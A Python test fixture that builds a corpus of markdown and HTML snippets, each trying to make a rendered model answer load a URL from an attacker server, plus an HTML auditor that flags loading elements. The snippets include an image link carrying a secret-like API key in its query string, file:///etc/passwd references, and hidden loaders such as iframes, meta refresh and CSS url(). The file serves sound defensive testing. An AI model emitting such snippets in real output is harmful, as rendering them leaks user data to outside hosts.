"""Model text that tries to make an output load something by itself ("no output loads
anything remote"), and an auditor that says what in an HTML string could load.

:func:`corpus` returns named markdown snippets that point at ``base`` (an attacker's server,
``http://host:port``), each at its own path so a request counter can tell which one loaded.
:func:`loaders` lists every element or attribute of an HTML fragment that could fetch a URL
without a click. Used by the unit tests (tests/unit/ui/test_no_remote_loads.py) and the browser
test (tests/integration/browser/test_no_remote_loads.py).
"""

from __future__ import annotations

import base64
import urllib.parse
from html.parser import HTMLParser

__all__ = ["SAFE_TAGS", "corpus", "corpus_text", "loaders"]

#: Every tag our outputs may hold (what render_markdown emits plus the static bundle's frame).
SAFE_TAGS = frozenset(
    {
        "a", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3",
        "h4", "h5", "h6", "hr", "i", "li", "ol", "p", "pre", "s", "span", "strong", "sub",
        "summary", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
    }
)  # fmt: skip
#: Attributes that cannot fetch anything by themselves (``href`` only on ``<a>``).
_SAFE_ATTRS = frozenset(
    {"title", "align", "start", "class", "rel", "style", "role", "aria-live", "aria-hidden"}
)
_STYLE_LOADERS = ("url", "image", "@import", "expression", "\\", "src")


def corpus(base: str) -> dict[str, str]:
    """Named markdown snippets, each trying to load ``base + "/<name>"`` without a click."""
    parsed = urllib.parse.urlsplit(base)
    hostport = parsed.netloc
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{base}/data-svg"/></svg>'
    ).encode()
    svg_uri = "data:image/svg+xml;base64," + base64.b64encode(svg).decode()
    png_uri = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
    u = base  # short alias
    return {
        "inline": f"An inline image ![chart]({u}/inline?k=sk-ant-api03-SECRET) here.",
        "title": f'![t]({u}/title "a title")',
        "angle": f"![a](<{u}/angle>)",
        "reference": f"![c][ref1]\n\n[ref1]: {u}/reference",
        "collapsed": f"![ref2][]\n\n[ref2]: <{u}/collapsed> 'title'",
        "shortcut": f"![ref3]\n\n   [ref3]:\n   {u}/shortcut",
        "case-label": f"![Foo Bar]\n\n[FOO   bar]: {u}/case-label",
        "table": f"| a | b |\n|---|---|\n| ![x]({u}/table) | ![y][tref] |\n\n[tref]: {u}/table-ref",
        "table-no-pipes": f"a | b\n--|--\n![x]({u}/table2) | y",
        "quote": f"> quoted ![q]({u}/quote)\n>\n> > ![q2]({u}/quote-nested)",
        "lazy-quote": f"> lazy\n![lz]({u}/lazy-quote)",
        "lists": (
            f"- a\n  - b ![n]({u}/list-nested)\n    1. ![o]({u}/list-ordered)\n"
            f"* ![s]({u}/list-star)"
        ),
        "link-text": f"[![x]({u}/link-image)]({u}/link-target)",
        "link-ref-text": f"[![x][lr]][lt]\n\n[lr]: {u}/link-ref-image\n[lt]: {u}/link-ref-target",
        "emphasis": f"*![e]({u}/em)* **![s]({u}/strong)** ~~![d]({u}/del)~~ _![u]({u}/under)_",
        "heading": f"# ![h]({u}/heading)\n\n![s]({u}/setext)\n---",
        "protocol-relative": f"![p](//{hostport}/protocol-relative)",
        "backslash-host": f"![p](\\\\\\\\{hostport}/backslash-host)",
        "mixed-case": f"![m](HtTp://{hostport}/mixed-case) ![m2](HTTP://{hostport}/upper-case)",
        "whitespace": f"![w](   {u}/whitespace   ) ![w2](\n{u}/newline\n)",
        "tab-in-scheme": f"![t](<ht\ttp://{hostport}/tab-scheme>)",
        "entities": f"![e](http&#58;//{hostport}/entity-colon) ![e2](&#x68;ttp://{hostport}/entity-h)",
        "percent": f"![pc]({u}/percent%20encoded)",
        "file": "![f](file:///etc/passwd) ![f2](FILE://localhost/etc/hostname)",
        "relative": "![r](leak-relative.png) ![r2](./x/leak-dot.png?k=1) ![r3](../leak-up.png)",
        "root-relative": "![r](/files/leak-root.png) ![r2](/api/contents/leak-api)",
        "data-png": f"![d]({png_uri})",
        "data-svg": f"![d]({svg_uri})",
        "raw-img": (
            f'<img src="{u}/raw-img"> <IMG SRC={u}/raw-img-upper> <img srcset="{u}/raw-srcset 1x">'
        ),
        "raw-svg": (
            f'<svg><image href="{u}/raw-svg-image"/><use xlink:href="{u}/raw-svg-use#a"/></svg>'
        ),
        "raw-picture": (
            f'<picture><source srcset="{u}/raw-source"><img src="{u}/raw-pic-img"></picture>'
        ),
        "raw-style": (
            f'<div style="background:url({u}/raw-style-attr)">x</div>'
            f"<style>@import url({u}/raw-style-import);"
            f" p{{background:url({u}/raw-style-tag)}}</style>"
        ),
        "raw-media": (
            f'<video poster="{u}/raw-poster" src="{u}/raw-video"></video>'
            f'<audio src="{u}/raw-audio" autoplay></audio>'
            f'<object data="{u}/raw-object"></object><embed src="{u}/raw-embed">'
        ),
        "raw-frames": f'<iframe src="{u}/raw-iframe"></iframe><frame src="{u}/raw-frame">',
        "raw-head": (
            f'<link rel="stylesheet" href="{u}/raw-link">'
            f'<link rel=prefetch href="{u}/raw-prefetch">'
            f'<base href="{u}/raw-base/"><meta http-equiv="refresh" content="0;url={u}/raw-meta">'
        ),
        "raw-form": (
            f'<form action="{u}/raw-form"><input type="image" src="{u}/raw-input-image">'
            f'<button formaction="{u}/raw-formaction">go</button></form>'
        ),
        "raw-table-bg": (
            f'<table background="{u}/raw-table-bg">'
            f'<tr><td background="{u}/raw-td-bg">x</td></tr></table>'
        ),
        "raw-in-alt": f'![<img src="{u}/alt-img">]({u}/alt-outer)',
        "autolinks": f"<{u}/autolink> and {u}/bare-url and www.example.invalid",
        "nested-alt": f"![a [b] c]({u}/nested-alt)",
        "escaped-backslash": f"\\\\![x]({u}/escaped-backslash) and \\![y]({u}/escaped-bang)",
        "double-bang": f"!![x]({u}/double-bang) x![y]({u}/adjacent)",
        "code": f"`![x]({u}/code-span)` and\n\n```\n![x]({u}/code-fence)\n```",
        "code-span-across-lines": f"x `a\nb` ![y]({u}/span-lines) `c",
        "unclosed-fence": "```\nstill code\n",
        "after-fence": f"```\n![x]({u}/after-fence)\n```",
        "math-style": f"$\\style{{background-image:url('{u}/math-style')}}{{x}}$ and "
        f"$$\\class{{a}}{{\\style{{background:url({u}/math-block)}}{{y}}}}$$",
        "html-entities": f"&lt;img src={u}/entity-img&gt; &#60;img src={u}/entity-num&#62;",
        "reference-title-multiline": f"![rt][rt]\n\n[rt]: {u}/ref-title\n  'multi\n  line'",
        "footnote-like": f"![^1]\n\n[^1]: {u}/footnote",
    }


def corpus_text(base: str) -> str:
    """The whole corpus as one answer, each snippet under a heading of its name."""
    return "\n\n".join(f"### {name}\n\n{text}" for name, text in corpus(base).items()) + "\n"


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name == "href" and tag == "a":
                continue
            if name not in _SAFE_ATTRS:
                self.found.append(f"<{tag} {name}={value[:80]!r}>")
            elif name == "style" and any(w in value.lower() for w in _STYLE_LOADERS):
                self.found.append(f"<{tag} style={value[:80]!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def loaders(html: str) -> list[str]:
    """Elements and attributes of ``html`` that could load a URL without a click."""
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.found
